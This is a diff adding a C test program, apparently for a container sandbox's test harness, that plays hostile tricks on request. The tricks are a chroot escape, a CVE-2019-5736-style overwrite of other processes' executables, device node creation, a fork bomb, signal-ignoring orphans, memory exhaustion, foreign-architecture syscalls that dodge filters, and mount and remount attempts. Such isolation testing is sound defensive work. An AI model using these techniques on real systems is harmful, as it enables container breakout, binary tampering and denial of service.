@@ -1,0 +1,208 @@
+/* What a hostile program does inside a container, by the name of the trick: `inside WORD [ARGUMENT]`.
+ *
+ * Built statically by the judge. A trick prints what it reached, nothing where the kernel stopped it, so that the judge
+ * reads the output and no exit code decides by itself. */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <grp.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/sysmacros.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+/* Leaves a chroot by a working folder above it, then prints the file at PATH if it can be seen. */
+static int leave_root(const char *path) {
+    char text[256];
+    int top = open("/", O_RDONLY | O_DIRECTORY);
+    mkdir("/tmp/below", 0700);
+    if (top >= 0 && chroot("/tmp/below") == 0 && fchdir(top) == 0) {
+        for (int i = 0; i < 64; i++)
+            if (chdir("..")) break;
+        if (chroot(".")) return 1;
+    }
+    int file = open(path, O_RDONLY);
+    ssize_t got = file < 0 ? -1 : read(file, text, sizeof text - 1);
+    if (got > 0) printf("reached %.*s\n", (int)got, text);
+    return 0;
+}
+
+/* Prints every open descriptor above 2, and what lies behind it. */
+static int descriptors(void) {
+    for (int fd = 3; fd < 4096; fd++) {
+        char name[64], target[256];
+        if (fcntl(fd, F_GETFD) < 0) continue;
+        snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
+        ssize_t n = readlink(name, target, sizeof target - 1);
+        printf("descriptor %d %.*s\n", fd, n < 0 ? 0 : (int)n, target);
+    }
+    return 0;
+}
+
+/* For SECONDS, opens the program of every other process and tries to write to it, as CVE-2019-5736 did. */
+static int overwrite(int seconds) {
+    int written = 0, seen = 0;
+    time_t end = time(NULL) + seconds;
+    puts("ready");
+    fflush(stdout);
+    while (time(NULL) < end) {
+        DIR *proc = opendir("/proc");
+        struct dirent *entry;
+        while (proc && (entry = readdir(proc))) {
+            char name[300];
+            int pid = atoi(entry->d_name);
+            if (pid <= 1 || pid == getpid()) continue;
+            snprintf(name, sizeof name, "/proc/%d/exe", pid);
+            int fd = open(name, O_RDONLY | O_CLOEXEC);
+            if (fd < 0) continue;
+            seen++;
+            snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
+            for (int i = 0; i < 2000; i++) {
+                int out = open(name, O_WRONLY | O_CLOEXEC);
+                if (out >= 0) {
+                    written += write(out, "overwritten", 11) == 11;
+                    close(out);
+                    break;
+                }
+                if (errno != ETXTBSY) break;
+            }
+            close(fd);
+        }
+        if (proc) closedir(proc);
+    }
+    printf("opened %d, written %d\n", seen > 0, written);
+    return 0;
+}
+
+/* Makes a device node and opens it. */
+static int node(const char *kind, int major_, int minor_) {
+    const char *path = "/tmp/node";
+    unlink(path);
+    if (mknod(path, (kind[0] == 'b' ? S_IFBLK : S_IFCHR) | 0666, makedev(major_, minor_))) {
+        printf("mknod: %s\n", strerror(errno));
+        return 0;
+    }
+    int fd = open(path, O_RDONLY);
+    if (fd >= 0) puts("opened"); else printf("open: %s\n", strerror(errno));
+    return 0;
+}
+
+/* Starts children until the kernel refuses, and prints how many live. */
+static int bomb(int most) {
+    int alive = 0;
+    for (; alive < most; alive++) {
+        pid_t child = fork();
+        if (child < 0) break;
+        if (child == 0) {
+            pause();
+            _exit(0);
+        }
+    }
+    printf("children %d\n", alive);
+    return 0;
+}
+
+/* Children of children, each in a session of its own, deaf to every signal that can be ignored. */
+static int orphans(int count) {
+    for (int i = 0; i < count; i++)
+        if (fork() == 0) {
+            setsid();
+            if (fork()) _exit(0);
+            for (int s = 1; s < 64; s++) signal(s, SIG_IGN);
+            for (;;) pause();
+        }
+    while (wait(NULL) > 0) {}
+    puts("ready");
+    fflush(stdout);
+    for (;;) pause();
+}
+
+/* Touches memory until the kernel says no. */
+static int allocate(int mebibytes) {
+    for (int i = 0; i < mebibytes; i++) {
+        char *page = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+        if (page == MAP_FAILED) break;
+        memset(page, 1, 1 << 20);
+        if (i % 16 == 15) { printf("touched %d\n", i + 1); fflush(stdout); }
+    }
+    return 0;
+}
+
+/* mkdir by the calls of this architecture and by those of its foreign ones. */
+static int calls(void) {
+    printf("mkdir %d\n", mkdir("/tmp/native", 0700) == 0 ? 0 : errno);
+#ifdef __x86_64__
+    long r = syscall(0x40000000 | 258, AT_FDCWD, "/tmp/x32", 0700);
+    printf("x32 %ld\n", r == 0 ? 0L : (long)errno);
+    fflush(stdout);
+    char *low = mmap((void *)0x10000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
+    if (low != MAP_FAILED) {
+        strcpy(low, "/tmp/i386");
+        long out;
+        __asm__ volatile("int $0x80" : "=a"(out) : "a"(39L), "b"((long)low), "c"(0700L) : "memory");
+        printf("i386 %ld\n", (long)(int)out);
+    }
+#endif
+    return 0;
+}
+
+/* A user without privileges who starts the set-user-id copy of this program. */
+static int privileges(void) {
+    printf("uid %d %d gid %d %d\n", getuid(), geteuid(), getgid(), getegid());
+    gid_t groups[64];
+    int n = getgroups(64, groups);
+    printf("groups");
+    for (int i = 0; i < n; i++) printf(" %d", groups[i]);
+    puts("");
+    return 0;
+}
+
+/* Mounts a tmpfs at PATH and puts a file into it. */
+static int mount_at(const char *path) {
+    char name[512];
+    if (mount("inside", path, "tmpfs", 0, NULL)) {
+        printf("mount: %s\n", strerror(errno));
+    } else {
+        snprintf(name, sizeof name, "%s/made-inside", path);
+        close(open(name, O_CREAT | O_WRONLY, 0600));
+        puts("mounted");
+    }
+    fflush(stdout);
+    char c;
+    if (read(0, &c, 1) < 0) return 1;
+    return 0;
+}
+
+/* Takes a bind mount's read-only flag away. */
+static int remount(const char *path) {
+    printf("remount %d\n", mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0 ? 0 : errno);
+    return 0;
+}
+
+int main(int argc, char **argv) {
+    const char *word = argc > 1 ? argv[1] : "", *one = argc > 2 ? argv[2] : "", *two = argc > 3 ? argv[3] : "0",
+               *three = argc > 4 ? argv[4] : "0";
+    if (!strcmp(word, "leave-root")) return leave_root(one);
+    if (!strcmp(word, "descriptors")) return descriptors();
+    if (!strcmp(word, "overwrite")) return overwrite(atoi(one));
+    if (!strcmp(word, "node")) return node(one, atoi(two), atoi(three));
+    if (!strcmp(word, "bomb")) return bomb(atoi(one));
+    if (!strcmp(word, "orphans")) return orphans(atoi(one));
+    if (!strcmp(word, "allocate")) return allocate(atoi(one));
+    if (!strcmp(word, "calls")) return calls();
+    if (!strcmp(word, "privileges")) return privileges();
+    if (!strcmp(word, "mount")) return mount_at(one);
+    if (!strcmp(word, "remount")) return remount(one);
+    if (!strcmp(word, "hello")) return write(1, "hello\n", 6) != 6;
+    fprintf(stderr, "inside: no trick named `%s`\n", word);
+    return 2;
+}
